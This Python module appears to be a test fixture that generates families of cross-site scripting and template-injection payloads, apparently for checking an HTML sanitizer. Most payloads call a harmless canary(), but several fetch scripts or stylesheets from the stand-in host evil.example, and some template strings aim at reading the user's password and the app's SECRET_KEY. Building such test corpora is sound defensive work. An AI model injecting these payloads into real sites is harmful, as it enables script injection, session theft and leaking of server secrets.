"""What somebody would write into a text so that it runs: by families, each on one line.

Each calls canary(), or alert(), or asks evil.example for something. `TEMPLATED` shows where a template of the
server worked out what was written.
"""

from collections.abc import Iterator

RUN = ("canary(1)", "alert(1)")
TEMPLATED = "49canary"
TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script >{run}</script >", "<script/x>{run}</script>",
    "<script\t>{run}</script>", "<script src=//evil.example/a.js></script>", "<svg><script>{run}</script></svg>",
    "<script src=data:,{run}></script>", "<scr<script>ipt>{run}</scr</script>ipt>", "<<script>{run}//<</script>",
    "<script type=module>{run}</script>", "<math><mi><script>{run}</script></mi></math>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>", "<embed src=javascript:{run}>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action=javascript:{run}><button>x</button></form>", "<button formaction=javascript:{run}>x</button>",
    "<isindex action=javascript:{run} type=image>", "<a href=javascript:{run}>x</a>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror={run}>", "<img src=x oNeRrOr={run}>", "<img/src=x/onerror={run}>", "<img src=x onerror\n={run}>",
    "<svg onload={run}>", "<svg/onload={run}>", "<body onload={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}></textarea>", "<details open ontoggle={run}>x",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<video src=x onerror={run}></video>",
    "<marquee onstart={run}>x</marquee>", "<div onpointerenter={run}>x</div>", "<p onmouseover={run}>x</p>",
    "<a href=# onclick={run}>x</a>", "<style onload={run}></style>", "<link rel=stylesheet href=x onerror={run}>",
    "<object data=x onerror={run}></object>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>", "<body onpageshow={run}>", "<body onhashchange={run}>",
    "<div style='animation:x' onanimationstart={run}>", "<div onbeforeinput={run} contenteditable>x</div>",
    "<xss tabindex=1 onfocus={run} autofocus>x</xss>", "<div popover onbeforetoggle={run}>x</div>",
)  # fmt: skip
ATTRIBUTES = (
    '"><script>{run}</script>', "'><script>{run}</script>", '" onmouseover={run} x="', "' onmouseover={run} x='",
    '" autofocus onfocus={run} x="', "' autofocus onfocus={run} x='", "x onerror={run}", '"/><svg onload={run}>',
    "'/><svg onload={run}>", '` onmouseover={run} `', '"onfocus="{run}"autofocus="', '"><img src=x onerror={run}>',
    '\\"><img src=x onerror={run}>', "\\'><img src=x onerror={run}>", '" style="background:url(//evil.example/a)" x="',
    '"></a><script>{run}</script>', '" hx-on:load="{run}" x="', '" hx-get="//evil.example/" hx-trigger="load" x="',
)  # fmt: skip
ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "javascript&colon;{run}",
    "javascript:/*--></title></style></textarea></script><svg/onload={run}>", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=", "vbscript:{run}", "//evil.example/{run}",
    "\x01javascript:{run}".replace("\x01", "\u200b"), "jav&#x09;ascript:{run}", "&#106;avascript:{run}", "view-source:javascript:{run}",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x]( javascript:{run})", "[x](javascript&colon;{run})",
    "[x](<javascript:{run}>)", "[x](data:text/html,<script>{run}</script>)", "[x](vbscript:{run})", "![x](javascript:{run})",
    "![x](http://evil.example/a.png)", "![x](x\"onerror=\"{run})", "[x](http://e.example/\"onmouseover=\"{run})",
    "<javascript:{run}>", "<http://e.example/\"onclick={run}>", "[x](&#106;avascript:{run})", "[x](\\javascript:{run})",
    "[x](http://e.example 'x\" onclick=\"{run}')", "`<script>{run}</script>`", "**<img src=x onerror={run}>**",
    "&lt;script&gt;{run}&lt;/script&gt;", "\\<script>{run}</script>", "[<img src=x onerror={run}>](http://e.example)",
    "![<img src=x onerror={run}>](x)", "[a]: javascript:{run}", "~~~<script>{run}</script>",
)  # fmt: skip
ENTITIES = (
    "&#60;script&#62;{run}&#60;/script&#62;", "&#x3c;img src=x onerror={run}&#x3e;", "&lt;img src=x onerror={run}&gt;",
    "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "&amp;lt;script&amp;gt;{run}", "&#0000060svg onload={run}&#62", "＜script＞{run}＜/script＞", "‹script›{run}‹/script›",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "<\u200bscript>{run}</script>", "<scr\u00adipt>{run}</script>",
    "\u202e<script>{run}</script>", "<ſcript>{run}</ſcript>", "<script&#x2028;>{run}</script>", "ﹼ<svg onload={run}>",
)  # fmt: skip
IN_SCRIPTS = (
    "</script><script>{run}</script>", "</SCRIPT ><svg onload={run}>", "<!--<script>{run}//-->", "]]><script>{run}</script>",
    "'-{run}-'", '"-{run}-"', "\\'-{run}//", '\\"-{run}//', "';{run}//", '";{run}//', "${{{run}}}", "`-{run}-`",
    '"}};{run};{{"a":"', "</title><script>{run}</script>", "</style><script>{run}</script>",
    "</textarea><script>{run}</script>", "</noscript><script>{run}</script>", "</template><script>{run}</script>",
)  # fmt: skip
MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>", "<xmp><img src=x onerror={run}></xmp>",
    "<p title='`'><img src=x onerror={run}>", "<template><script>{run}</script></template>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></foreignObject></svg>",
    "<a id=canary href=javascript:{run}>x</a>", "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
)  # fmt: skip
STYLES = (
    "<style>@import '//evil.example/a.css'</style>", "<div style='background:url(//evil.example/a)'>x</div>",
    "</style><style>*{{background:url(//evil.example/b)}}</style>", "<div style='width:expression({run})'>x</div>",
    "x;background:url(//evil.example/c)", "\";}}*{{background:url(//evil.example/d)}}",
)  # fmt: skip
TEMPLATES = (
    "{{{{ 7|add:42 }}}}canary", "{{{{7*7}}}}canary", "${{7*7}}canary", "#{{7*7}}canary", "<%= 7*7 %>canary",
    "{{% debug %}}", "{{% include 'admin/base.html' %}}", "{{{{ request.user.password }}}}", "%(canary)s %s %d {{0}}",
    "{{{{ settings.SECRET_KEY }}}}", "{{%% autoescape off %%}}<script>{run}</script>{{%% endautoescape %%}}",
)  # fmt: skip
# What is not closed swallows what comes after it: it stands last.
UNCLOSED = (
    "<script>{run}//", "<img src=x onerror={run}//", "<svg onload={run}//", "<iframe src=javascript:{run}//",
    "<plaintext>", "<textarea><img src=x onerror={run}>", "<!-- <img src=x onerror={run}>", "<title><svg onload={run}>",
    "<a href='javascript:{run}", '<img src="//evil.example/?', "<xmp>", "<style>",
)  # fmt: skip
# One of each event that some browser fires without or with a hand.
EVENTS = tuple(
    f"<b on{event}={{run}}>x</b>"
    for event in [
        "beforecopy",
        "beforematch",
        "blur",
        "change",
        "click",
        "contextmenu",
        "copy",
        "cut",
        "dblclick",
        "drag",
        "drop",
        "focusin",
        "gotpointercapture",
        "input",
        "keydown",
        "mousedown",
        "mouseenter",
        "paste",
        "pointerdown",
        "scroll",
        "scrollend",
        "select",
        "submit",
        "touchstart",
        "transitionend",
        "transitionrun",
        "wheel",
    ]
)
FAMILIES = {
    "tags": TAGS, "handlers": HANDLERS, "events": EVENTS, "attributes": ATTRIBUTES, "addresses": ADDRESSES, "Markdown": MARKDOWN,
    "entities and unusual characters": ENTITIES, "in scripts": IN_SCRIPTS, "mutating": MUTATING, "styles": STYLES,
    "templates": TEMPLATES, "unclosed": UNCLOSED,
}  # fmt: skip


# For controls: one that runs at once, and one that asks elsewhere at once.
PLANTED = ("<svg onload=canary(1)>", "<img src=//evil.example/a.png>")


def payloads() -> list[str]:
    """Every payload once, in the order of families."""
    made = (form.format(run=run) for forms in FAMILIES.values() for form in forms for run in RUN)
    return list(dict.fromkeys(" ".join(one.split("\n")).replace("\t", "&#9;") for one in made))


def groups(count: int) -> Iterator[tuple[str, ...]]:
    """The payloads dealt out into so many groups, each with some of every family."""
    every = payloads()
    for at in range(count):
        yield tuple(every[at::count])
